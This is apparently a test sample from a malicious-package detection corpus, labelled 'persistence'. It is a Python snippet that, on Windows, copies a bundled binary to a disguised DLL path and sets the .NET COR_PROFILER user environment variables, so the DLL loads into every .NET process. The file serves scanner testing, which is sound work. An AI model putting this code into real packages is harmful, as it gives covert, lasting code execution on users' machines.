# pkgguard corpus 834 (persistence), modelled on [taxonomy]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    dll = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Microsoft", "CLR_v4.0", "clrtrace64.dll")
    os.makedirs(os.path.dirname(dll), exist_ok=True)
    shutil.copyfile(os.path.join(os.path.dirname(__file__), "_data", "trace.bin"), dll)
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Environment", 0, winreg.KEY_SET_VALUE) as key:
        winreg.SetValueEx(key, "COR_ENABLE_PROFILING", 0, winreg.REG_SZ, "1")
        winreg.SetValueEx(key, "COR_PROFILER", 0, winreg.REG_SZ, "{cf0d821e-299b-5307-a3d8-b283c03916dd}")
        winreg.SetValueEx(key, "COR_PROFILER_PATH", 0, winreg.REG_SZ, dll)
